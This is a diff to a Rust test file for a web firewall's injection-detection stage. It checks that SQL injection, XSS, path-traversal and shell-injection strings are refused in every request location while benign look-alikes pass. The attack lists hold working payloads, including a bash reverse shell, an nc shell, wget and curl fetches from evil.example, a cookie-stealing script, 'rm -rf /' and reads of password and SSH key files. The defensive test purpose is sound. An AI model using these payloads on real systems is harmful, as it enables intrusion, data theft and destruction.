@@ -1,8 +1,15 @@
-//! Attacks with their evasions, and honest look-alikes, through the whole stage.
+//! Attacks with their evasions, and honest look-alikes, through the whole stage; written for this project.
 
-use super::{InjectionStage, Parts};
-use crate::finding::Findings;
+use alloc::format;
+use alloc::string::String;
+use alloc::vec::Vec;
+
+use super::{Class, Exception, InjectionStage, Parts};
+use crate::budget::MAX_STEPS;
+use crate::finding::{Finding, Findings};
 use crate::request::RequestHead;
+use crate::request::body::BodyKind;
+use crate::verdict::{Denial, Reason};
 
 fn stage(level: u8) -> InjectionStage {
     InjectionStage {
@@ -14,34 +21,482 @@ fn stage(level: u8) -> InjectionStage {
             cookies: true,
             body: true,
         },
-        except: alloc::vec::Vec::new(),
-        patterns: alloc::vec::Vec::new(),
+        except: Vec::new(),
+        patterns: Vec::new(),
     }
 }
 
-fn blocked(target: &[u8]) -> bool {
-    let pairs = [(&b":method"[..], &b"GET"[..]), (b":path", target)];
+fn judge_head(
+    stage: &InjectionStage,
+    route: &[u8],
+    pairs: &[(&[u8], &[u8])],
+) -> (Option<Denial>, Vec<Finding>) {
     let head = RequestHead::decode(pairs.iter().copied());
-    let mut steps = crate::budget::MAX_STEPS;
+    let mut steps = MAX_STEPS;
     let mut found = Findings::default();
-    stage(1)
-        .inspect_head(&head, b"", &mut steps, &mut found)
-        .is_err()
+    let denied = stage
+        .inspect_head(&head, route, &mut steps, &mut found)
+        .err();
+    (denied, found.as_slice().to_vec())
+}
+
+fn judge_body(kind: BodyKind, body: &[u8]) -> (Option<Denial>, Vec<Finding>) {
+    let mut steps = MAX_STEPS;
+    let mut found = Findings::default();
+    let denied = stage(1)
+        .inspect_body(kind, body, b"", &mut steps, &mut found)
+        .err();
+    (denied, found.as_slice().to_vec())
+}
+
+fn percent(value: &str) -> String {
+    value.bytes().map(|byte| format!("%{byte:02X}")).collect()
+}
+
+fn json(value: &str) -> String {
+    let mut out = String::from("{\"a\":{\"b\":[\"");
+    for letter in value.chars() {
+        match letter {
+            '"' | '\\' => {
+                out.push('\\');
+                out.push(letter);
+            }
+            '\n' => out.push_str("\\n"),
+            '\t' => out.push_str("\\t"),
+            _ => out.push(letter),
+        }
+    }
+    out.push_str("\"]}}");
+    out
+}
+
+/// The places where `value` was refused, in the order query, form, JSON, header, cookie.
+fn refused(value: &str) -> [bool; 5] {
+    let coded = percent(value);
+    let target = format!("/search?page=2&q={coded}");
+    let form = format!("page=2&q={coded}");
+    let cookie = format!("theme=dark; q={coded}");
+    let head = |pairs: &[(&[u8], &[u8])]| judge_head(&stage(1), b"", pairs).0.is_some();
+    [
+        head(&[(b":method", b"GET"), (b":path", target.as_bytes())]),
+        judge_body(BodyKind::Form, form.as_bytes()).0.is_some(),
+        judge_body(BodyKind::Json, json(value).as_bytes())
+            .0
+            .is_some(),
+        head(&[(b":path", b"/"), (b"referer", value.as_bytes())]),
+        head(&[(b":path", b"/"), (b"cookie", cookie.as_bytes())]),
+    ]
+}
+
+const ATTACKS: [(Class, &[&str]); 4] = [
+    (
+        Class::Sqli,
+        &[
+            "' OR 1=1--",
+            "' oR '1'='1",
+            "x' || 'a'='a",
+            "admin'--",
+            "admin')#",
+            "1 OR 1=1",
+            "1/**/oR/**/1=1/*",
+            "\" or \"a\"=\"a",
+            "') or ('x'='x",
+            "1 UNION SELECT name, pass FROM users",
+            "1 UnIoN/**/aLL/**/sElEcT 1,2,3",
+            "-1'union(select(1),2,3)-- -",
+            "1/*!50000union*/ /*!50000select*/ 1,2",
+            "1; DROP TABLE users--",
+            "'; EXEC xp_cmdshell 'dir'--",
+            "1'; WAITFOR DELAY '0:0:5'--",
+            "1 AND SLEEP(5)",
+            "1 and ascii(substring((select pass from users limit 1),1,1))>64",
+            "1' AND extractvalue(1,concat(0x7e,version()))-- ",
+            "(select * from (select(sleep(5)))a)",
+            "1 order by 9--",
+            "1 and 1=convert(int,@@version)",
+            "select load_file(0x2f6574632f706173737764)",
+            "' having 1=1--",
+            "1 union select null,table_name from information_schema.tables",
+            "'; insert into users values (1,'x')--",
+            "' or username like 'a%",
+            "'='",
+        ],
+    ),
+    (
+        Class::Xss,
+        &[
+            "<script>alert(1)</script>",
+            "<ScRiPt src=//evil.example/x.js>",
+            "<svg/onload=alert(1)>",
+            "<img src=x onerror=alert`1`>",
+            "<IMG\nSRC=x\nONERROR\n=\nconfirm(1)>",
+            "\" onmouseover=\"alert(1)",
+            "' autofocus onfocus='alert(1)",
+            "javascript:alert(1)",
+            "JaVaScRiPt:alert(document.cookie)",
+            "<a href=\"java\tscript:alert(1)\">x</a>",
+            "<a href='data:text/html,<b>x</b>'>x</a>",
+            "<iframe src=//evil.example>",
+            "<object data=x>",
+            "<div style=\"width:expression(alert(1))\">",
+            "<base href=//evil.example/>",
+            "<details open ontoggle=prompt(1)>",
+            "&lt;script&gt;alert(1)&lt;/script&gt;",
+            "&#60;img src=x onerror&#61;alert(1)&#62;",
+            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+            "＜script＞alert(1)＜/script＞",
+            "{{constructor.constructor('alert(1)')()}}",
+            "';alert(String.fromCharCode(88))//",
+            "document.location='//evil.example/?'+document.cookie",
+            "<meta http-equiv=refresh content=0>",
+            "<math><a xlink:href=javascript:alert(1)>x",
+        ],
+    ),
+    (
+        Class::Traversal,
+        &[
+            "../../etc/passwd",
+            "..\\..\\windows\\win.ini",
+            "....//....//etc/passwd",
+            "..;/..;/admin",
+            "/etc/passwd",
+            "/etc/./shadow",
+            "file:///etc/hosts",
+            "php://filter/convert.base64-encode/resource=index.php",
+            "C:\\Windows\\System32\\config\\SAM",
+            "\\\\evil.example\\share\\x",
+            "%2e%2e%2f%2e%2e%2fx",
+            "%252e%252e%252f%252e%252e%252fx",
+            "/proc/self/environ",
+            "../../../.ssh/id_rsa",
+            "x/../../../../boot.ini",
+            "phar://upload/x.jpg",
+            "../images/x.png\0.php",
+        ],
+    ),
+    (
+        Class::Shell,
+        &[
+            ";cat /etc/hosts",
+            "127.0.0.1; ls -la /",
+            "127.0.0.1|id",
+            "x && whoami",
+            "x||wget http://evil.example/x",
+            "$(curl evil.example)",
+            "`id`",
+            "a;cat${IFS}/etc/hosts",
+            ";c'a't /etc/hosts",
+            ";c\\at /etc/hosts",
+            "/bin/sh -c id",
+            "x;/usr/bin/id",
+            "bash -i >& /dev/tcp/10.0.0.1/9 0>&1",
+            "() { :;}; echo vulnerable",
+            "& ping -n 9 127.0.0.1",
+            "| powershell -enc AAAA",
+            "; nc -e /bin/sh 10.0.0.1 9",
+            "cmd.exe /c dir",
+            "{cat,/etc/hosts}",
+            "; rm -rf /",
+            "|| uname -a",
+            "for /f %i in ('whoami') do echo %i",
+            "<!--#exec cmd=\"ls\"-->",
+        ],
+    ),
+];
+
+#[test]
+fn attacks_are_refused_wherever_they_stand() {
+    for (class, values) in ATTACKS {
+        for value in values {
+            assert_eq!(refused(value), [true; 5], "{class:?} {value:?}");
+        }
+    }
 }
 
 #[test]
-fn the_obvious_is_found() {
+fn evasions_do_not_change_the_verdict() {
+    for (class, values) in ATTACKS {
+        for value in values {
+            let twice = percent(&percent(value));
+            assert!(
+                refused(&twice)[0],
+                "encoded three times: {class:?} {value:?}"
+            );
+            let entities: String = value.bytes().map(|byte| format!("&#x{byte:x};")).collect();
+            if value.is_ascii() && !value.contains('\0') {
+                assert!(refused(&entities)[1], "entities: {class:?} {value:?}");
+            }
+            let padded = format!("  {value}");
+            if class != Class::Traversal {
+                assert!(refused(&padded)[2], "padded: {class:?} {value:?}");
+            }
+        }
+    }
+}
+
+const HONEST: [&str; 70] = [
+    "O'Brien",
+    "Conan O'Brien and Dara Ó Briain",
+    "select a plan from the list",
+    "Please select the best seat from the map, or drop me a line.",
+    "the union of students selected a new chair",
+    "European Union select committee",
+    "rock & roll; jazz",
+    "Tom & Jerry's",
+    "1 or 2 people",
+    "either 3 and 4 or 5",
+    "I'm sure it's fine, isn't it?",
+    "5' 11\" tall",
+    "2 + 2 = 4",
+    "if (a == b) { return c; }",
+    "a < b and c > d",
+    "price > 100 and price < 200",
+    "I <3 you",
+    "-- forwarded message --",
+    "wait -- what?",
+    "#1 fan of the #2 team",
+    "who, what, where & when",
+    "my cat; your dog | their bird",
+    "let me ping you later; I will echo it",
+    "set the alert for 7 am",
+    "please confirm (by mail)",
+    "sleep (8 hours)",
+    "drop by the table; update us",
+    "order by phone, group by age",
+    "CASE of beer WHEN you arrive",
+    "delete from my cart the red one",
+    "insert coin into the slot",
+    "Robert, who executes and declares",
+    "https://shop.example.com/a/b?x=1&y=2#top",
+    "http://localhost:3000/callback",
+    "/home/alice/notes.txt",
+    "../images/logo.png",
+    "C:\\Users\\Bob\\report.docx",
+    "/usr/local/bin",
+    "see the /etc/hosts file",
+    "ratio 1/2, 3/4; 5/6",
+    "user@example.com; other@example.com",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
+    "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0) like Gecko",
+    "Opera/9.80 (J2ME/MIDP; Opera Mini/7; U; id) Presto/2.8 Version/11.10",
+    "{\"theme\":\"dark\",\"q\":\"select all or none\",\"n\":[1,2]}",
+    "{id,name,type}",
+    "GA1.2.1234567890.1700000000",
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
+    "dGhpcyBpcyBhIHRva2Vu+/==",
+    "100% cotton, 50% off",
+    "C++ & C#",
+    "<b>bold</b> and <i>italic</i>",
+    "<p style=\"margin:0\">Hello <a href=\"https://example.com/\">you</a></p>",
+    "the <div> element",
+    "Hello {{ first_name }}, welcome",
+    "Hello ${name}",
+    "JavaScript: the good parts",
+    "onload = true?",
+    "only=1&once=2",
+    "version ^1.2.3 || ~2.0.0",
+    "L'été, c'est l'heure d'aller à l'océan",
+    "Dov'è l'università? All'angolo",
+    "rock'n'roll",
+    "Ik heb 's avonds 'n afspraak",
+    "=SUM(A1:A10)*1.2",
+    "| Name | Qty |\n|------|-----|\n| Foo  | 1   |",
+    "type more to see; less is more",
+    "100;200;300|400",
+    "key=value; path=/; secure",
+    "Run git diff --exit-code || bash -c \\",
+];
+
+#[test]
+fn honest_values_pass_wherever_they_stand() {
+    for value in HONEST {
+        assert_eq!(refused(value), [false; 5], "{value:?}");
+    }
+}
+
+#[test]
+fn paths_are_inspected() {
     const CASES: [(&str, bool); 8] = [
-        ("/search?q=%27%20OR%201=1--", true),
-        ("/search?q=1+union+all+select+1,2,3", true),
-        ("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", true),
-        ("/file?name=../../etc/passwd", true),
-        ("/ping?host=1.1.1.1;cat+/etc/hosts", true),
-        ("/search?q=O%27Brien", false),
-        ("/search?q=select+a+plan+from+the+list", false),
-        ("/search?q=rock+%26+roll;+jazz", false),
+        ("/static/../../etc/passwd", true),
+        ("/items/1%20union%20select%201,2,3", true),
+        ("/items/%3Cscript%3Ealert(1)%3C/script%3E", true),
+        ("/items/;cat%20/etc/hosts", true),
+        ("/api/ping", false),
+        ("/blog/tags/python", false),
+        ("/etc/passwords/reset", false),
+        ("/select/from/where", false),
     ];
-    for (target, expected) in CASES {
-        assert_eq!(blocked(target.as_bytes()), expected, "{target}");
+    for (path, expected) in CASES {
+        let (denied, _) = judge_head(&stage(1), b"", &[(b":path", path.as_bytes())]);
+        assert_eq!(denied.is_some(), expected, "{path}");
+    }
+}
+
+#[test]
+fn findings_say_what_and_where() {
+    let pairs: [(&[u8], &[u8]); 2] = [(b":path", b"/"), (b"referer", b"<script>alert(1)</script>")];
+    let (denied, found) = judge_head(&stage(1), b"", &pairs);
+    assert_eq!(denied.map(|denial| denial.reason), Some(Reason::Injection));
+    let finding = &found[0];
+    assert_eq!(finding.rule, b"xss");
+    assert_eq!(finding.place, b"header:referer");
+    assert_eq!(finding.score, 5);
+    assert!(finding.evidence.starts_with(b"<script>") && finding.evidence.len() <= 64);
+
+    let (_, found) = judge_body(BodyKind::Json, br#"{"user":{"name":"' or 1=1--"}}"#);
+    assert_eq!(found[0].place, b"body:user.name");
+    let (_, found) = judge_body(BodyKind::Form, b"a=1&b=%27+or+1=1--");
+    assert_eq!(found[0].place, b"body:b");
+}
+
+#[test]
+fn names_are_inspected() {
+    let (denied, _) = judge_head(
+        &stage(1),
+        b"",
+        &[(b":path", b"/?%3Cscript%3Ealert(1)%3C/script%3E=1")],
+    );
+    assert!(denied.is_some());
+    let (denied, _) = judge_body(BodyKind::Json, br#"{"' or 1=1--":1}"#);
+    assert!(denied.is_some());
+}
+
+#[test]
+fn malformed_json_is_refused_and_an_empty_body_is_not() {
+    const CASES: [(&[u8], Option<Reason>); 5] = [
+        (b"", None),
+        (b" \n", None),
+        (b"{}", None),
+        (b"{\"a\":", Some(Reason::MalformedBody)),
+        (b"{\"a\":1}x", Some(Reason::MalformedBody)),
+    ];
+    for (body, expected) in CASES {
+        let (denied, _) = judge_body(BodyKind::Json, body);
+        assert_eq!(denied.map(|denial| denial.reason), expected, "{body:?}");
+    }
+}
+
+#[test]
+fn an_exception_needs_all_its_parts() {
+    let pairs: [(&[u8], &[u8]); 1] = [(b":path", b"/?content=%3Cscript%3Ealert(1)%3C/script%3E")];
+    const CASES: [(Option<&[u8]>, Option<&[u8]>, &[Class], bool); 6] = [
+        (Some(b"blog"), Some(b"content"), &[Class::Xss], false),
+        (None, None, &[], false),
+        (Some(b"blog"), None, &[Class::Xss, Class::Sqli], false),
+        (Some(b"other"), Some(b"content"), &[Class::Xss], true),
+        (Some(b"blog"), Some(b"title"), &[Class::Xss], true),
+        (Some(b"blog"), Some(b"content"), &[Class::Sqli], true),
+    ];
+    for (route, field, classes, expected) in CASES {
+        let mut stage = stage(1);
+        stage.except.push(Exception {
+            route: route.map(<[u8]>::to_vec),
+            field: field.map(<[u8]>::to_vec),
+            classes: classes.to_vec(),
+        });
+        let (denied, _) = judge_head(&stage, b"blog", &pairs);
+        assert_eq!(
+            denied.is_some(),
+            expected,
+            "{route:?} {field:?} {classes:?}"
+        );
+    }
+}
+
+#[test]
+fn a_value_encoded_beyond_the_bound_is_a_finding() {
+    let coded = |rounds: usize| {
+        let mut value = String::from("%41");
+        for _ in 1..rounds {
+            value = value.replace('%', "%25");
+        }
+        let target = format!("/?q={value}");
+        judge_head(&stage(1), b"", &[(b":path", target.as_bytes())]).0
+    };
+    // One decoding is the form's own, the rest are the deep view's.
+    assert!(coded(crate::budget::MAX_DECODE_ROUNDS + 1).is_none());
+    assert!(coded(crate::budget::MAX_DECODE_ROUNDS + 2).is_some());
+}
+
+#[test]
+fn levels_only_add() {
+    let suspicious = [(&b":path"[..], &b"/?file=../images/logo.png"[..])];
+    assert!(judge_head(&stage(1), b"", &suspicious).0.is_none());
+    assert!(judge_head(&stage(2), b"", &suspicious).0.is_none());
+    assert!(judge_head(&stage(3), b"", &suspicious).0.is_some());
+    assert!(judge_head(&stage(4), b"", &suspicious).0.is_some());
+}
+
+#[test]
+fn a_spent_budget_refuses() {
+    let head = RequestHead::decode([(&b":path"[..], &b"/?q=a+long+enough+value"[..])].into_iter());
+    let judge = |mut steps: u64| {
+        let mut found = Findings::default();
+        let denied = stage(1)
+            .inspect_head(&head, b"", &mut steps, &mut found)
+            .err();
+        (denied.map(|denial| denial.reason), steps)
+    };
+    let (reason, left) = judge(MAX_STEPS);
+    assert_eq!(reason, None);
+    let used = MAX_STEPS - left;
+    assert_eq!(judge(used + 1).0, None);
+    assert_eq!(judge(used).0, Some(Reason::InspectionBudget));
+}
+
+#[test]
+fn cost_grows_with_the_input_and_not_faster() {
+    const PIECES: [&str; 26] = [
+        "'", "\"", "`", "<", "(", "--", "\\", "%25", "/*", "../", ";", "&", "$(", "{", "<a ",
+        "<style>", "on", "or 1", "\n", " ", "x'", "<a b=\"", "select ", "a(", "j:", "&#x41",
+    ];
+    let steps = |piece: &str, size: usize| {
+        let value = piece.repeat(size / piece.len());
+        let mut steps = MAX_STEPS;
+        let mut found = Findings::default();
+        let result = stage(1).inspect_body(
+            BodyKind::Other,
+            value.as_bytes(),
+            b"",
+            &mut steps,
+            &mut found,
+        );
+        assert!(result.is_ok() || !found.as_slice().is_empty());
+        MAX_STEPS - steps
+    };
+    for piece in PIECES {
+        let small = steps(piece, 32 * 1024);
+        let large = steps(piece, 64 * 1024);
+        assert!(
+            large * 10 <= small * 22 + 1000,
+            "{piece:?}: {small} then {large}"
+        );
+    }
+}
+
+#[test]
+fn hostile_bytes_get_a_verdict() {
+    for (_, values) in ATTACKS {
+        for value in values {
+            let bytes = value.as_bytes();
+            for end in 0..bytes.len() {
+                let _ = judge_body(BodyKind::Other, &bytes[..end]);
+                let mut changed = bytes.to_vec();
+                for hostile in [0x00, 0x80, 0xC0, 0xE0, 0xF0, 0xFF, b'%', b'\\', b'&'] {
+                    changed[end] = hostile;
+                    let _ = judge_body(BodyKind::Form, &changed);
+                    let _ = judge_head(
+                        &stage(4),
+                        b"",
+                        &[(b":path", &changed), (b"cookie", &changed)],
+                    );
+                }
+            }
+        }
+    }
+    for first in 0..=u8::MAX {
+        for second in 0..=u8::MAX {
+            let _ = judge_body(BodyKind::Other, &[first, second, b'(', first]);
+        }
     }
 }
